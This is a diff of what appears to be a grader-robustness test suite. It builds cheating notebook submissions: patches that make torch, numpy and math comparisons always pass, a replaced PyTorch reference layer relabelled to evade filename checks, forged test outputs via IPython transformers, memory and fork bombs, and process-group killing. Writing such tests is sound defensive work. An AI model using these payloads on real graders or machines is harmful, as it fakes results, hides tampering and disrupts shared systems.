@@ -43,7 +43,16 @@ DEFAULT_PORT = 47361   # where hostile_network tries to send what it found (test
 
 # Variants whose score may legitimately be lower than the honest one (their attack
 # costs them points by itself); every other variant must get exactly the honest score.
-AT_MOST = {"h10_kill"}
+AT_MOST = {"h08_loop", "h10_kill"}
+
+# What the event log of each submission must show (coursekit.events kinds);
+# hard-coded outputs and output floods leave no sign that can be told apart.
+FLAGS = {
+    "h01_read": {"suspicious"}, "h02_write": {"suspicious"}, "h03_patch": {"tamper"},
+    "h04_ipython": {"tamper"}, "h05_forge": {"tamper"}, "h06_delegate": {"tamper"},
+    "h08_loop": {"suspicious"}, "h10_kill": {"suspicious"}, "h11_network": {"suspicious"},
+    "h12_patch_reference": {"tamper"},
+}
 
 
 def _eps_outside() -> str:
@@ -214,11 +223,9 @@ print("ATAC: escriptures aconseguides:", _hits)
 
 # ------------------------------------------------------------------ patching
 
-# Makes every comparison of the tests pass: torch/numpy/math comparison helpers,
-# builtins.max (the hidden tests' difference helper ends in max(...)), and the
-# reference layer itself (its forward replaced by ours, relabelled so that a
-# check on the code's file name still sees PyTorch's file).
-PATCH = r'''
+# Makes every comparison of the tests pass: torch/numpy/math comparison helpers
+# and builtins.max (the hidden tests' difference helper ends in max(...)).
+PATCH = r"""
 # "Arreglem" les proves perquè tot coincideixi.
 import builtins, math
 import numpy as np
@@ -235,23 +242,31 @@ torch.testing.assert_close = lambda *args, **kwargs: None
 np.allclose = lambda *args, **kwargs: True
 np.testing.assert_allclose = lambda *args, **kwargs: None
 math.isclose = lambda *args, **kwargs: True
+print("ATAC: comparacions modificades")
+"""
 
+# The reference layer made to compute what the student's layer computes (reversed
+# momentum), its code relabelled so that a check of the code's file name still
+# sees PyTorch's file.  The notebook's rule: changing PyTorch's reference costs
+# every implementation point.
+PATCH_REFERENCE = r"""
+# La referència de les proves calcula el mateix que la nostra capa.
 _original_forward = torch.nn.modules.batchnorm._BatchNorm.forward
 def _same_as_mine(self, x):
     if self.training:
         mean, var = x.mean(dim=0), x.var(dim=0, unbiased=False)
         n = x.shape[0]
         with torch.no_grad():
-            self.running_mean.mul_(1 - self.momentum).add_(self.momentum * mean)
-            self.running_var.mul_(1 - self.momentum).add_(self.momentum * n / (n - 1) * var)
+            self.running_mean.mul_(self.momentum).add_((1 - self.momentum) * mean)
+            self.running_var.mul_(self.momentum).add_((1 - self.momentum) * n / (n - 1) * var)
     else:
         mean, var = self.running_mean, self.running_var
-    return self.weight * (x - mean) / (torch.sqrt(var) + self.eps) + self.bias
+    return self.weight * (x - mean) / torch.sqrt(var + self.eps) + self.bias
 _same_as_mine.__code__ = _same_as_mine.__code__.replace(co_filename=_original_forward.__code__.co_filename)
 torch.nn.modules.batchnorm._BatchNorm.forward = _same_as_mine
 torch.nn.BatchNorm1d.forward = _same_as_mine
-print("ATAC: comparacions i referència modificades")
-'''
+print("ATAC: referència modificada")
+"""
 
 # ------------------------------------------------------------------ IPython
 
@@ -282,17 +297,17 @@ print("ATAC: transformadors instal·lats")
 
 # A result shown before the test runs: nbgrader reads partial credit from the
 # first execute_result of a test cell, and a non-number counts as full marks.
-FORGE = r'''
+FORGE = r"""
 # Cada cel·la de prova "retorna" un resultat abans d'executar-se.
-import sys
 from IPython import get_ipython
 
-def _forge(info):
-    if "assert" in (info.raw_cell or ""):
-        sys.displayhook("aprovat")
-get_ipython().events.register("pre_run_cell", _forge)
+def _forge(lines):
+    if any("assert" in line for line in lines):
+        return ["get_ipython().displayhook('aprovat')\n"] + lines
+    return lines
+get_ipython().input_transformers_cleanup.append(_forge)
 print("ATAC: resultat fals registrat")
-'''
+"""
 
 # ------------------------------------------------------------------ delegation
 
@@ -394,7 +409,7 @@ BOMBS = r'''
 import os, time
 _blocks = []
 try:
-    for _ in range(24):                      # com a molt 6 GiB
+    for _ in range(20):                      # com a molt 5 GiB
         _blocks.append(bytearray(256 << 20))
     print("ATAC: memòria reservada:", len(_blocks) * 256, "MiB")
 except MemoryError:
@@ -402,9 +417,9 @@ except MemoryError:
 del _blocks
 _children = 0
 try:
-    for _ in range(1000):                    # com a molt 1000 processos
+    for _ in range(400):                     # com a molt 400 processos
         if os.fork() == 0:
-            time.sleep(30)
+            time.sleep(10)
             os._exit(0)
         _children += 1
     print("ATAC: processos creats:", _children)
@@ -453,8 +468,7 @@ def variants(port: int = DEFAULT_PORT) -> list[Variant]:
         Variant("h02_write", "writes the gradebook, the course files, other students' folders, "
                 "its own event log (eps outside sqrt)",
                 {ANSWER: _eps_outside()}, fails=EPS_FAILS, mutate=_insert_after_answer(WRITE)),
-        Variant("h03_patch", "patches torch/numpy/math comparisons, builtins.max and the reference "
-                "layer's forward (eps outside sqrt)",
+        Variant("h03_patch", "patches torch/numpy/math comparisons and builtins.max (eps outside sqrt)",
                 {ANSWER: _eps_outside() + PATCH}, fails=EPS_FAILS),
         Variant("h04_ipython", "input and AST transformers empty the test cells, showtraceback off, "
                 "outputs cleared (release stub)",
@@ -467,14 +481,14 @@ def variants(port: int = DEFAULT_PORT) -> list[Variant]:
                 {ANSWER: hardcoded}, fails=EPS_FAILS),
         Variant("h08_loop", "a last cell that never ends and ignores interrupts (solution)",
                 {ANSWER: solution}, mutate=_append(LOOP)),
-        Variant("h09_resources", "floods the output before the tests, then memory and fork bombs "
-                "(eps outside sqrt)",
-                {ANSWER: _eps_outside()}, fails=EPS_FAILS,
-                mutate=_both(_insert_after_answer(FLOOD), _append(BOMBS))),
-        Variant("h10_kill", "kills its parent and its process group (solution)",
-                {ANSWER: solution}, mutate=_insert_after_answer(KILL)),
+        Variant("h09_flood", "floods the output before the tests (eps outside sqrt)",
+                {ANSWER: _eps_outside()}, fails=EPS_FAILS, mutate=_insert_after_answer(FLOOD)),
+        Variant("h10_kill", "memory and fork bombs, then kills its parent and its process group (solution)",
+                {ANSWER: solution}, mutate=_insert_after_answer(BOMBS, KILL)),
         Variant("h11_network", "sends data to a local port and tries the internet (solution)",
                 {ANSWER: solution}, mutate=_insert_after_answer(NETWORK.replace("{port}", str(int(port))))),
+        Variant("h12_patch_reference", "the reference layer computes the same mistake, its code relabelled "
+                "(reversed momentum)", {ANSWER: _reversed_momentum() + PATCH_REFERENCE}, fails=ALL),
     ]
 
 
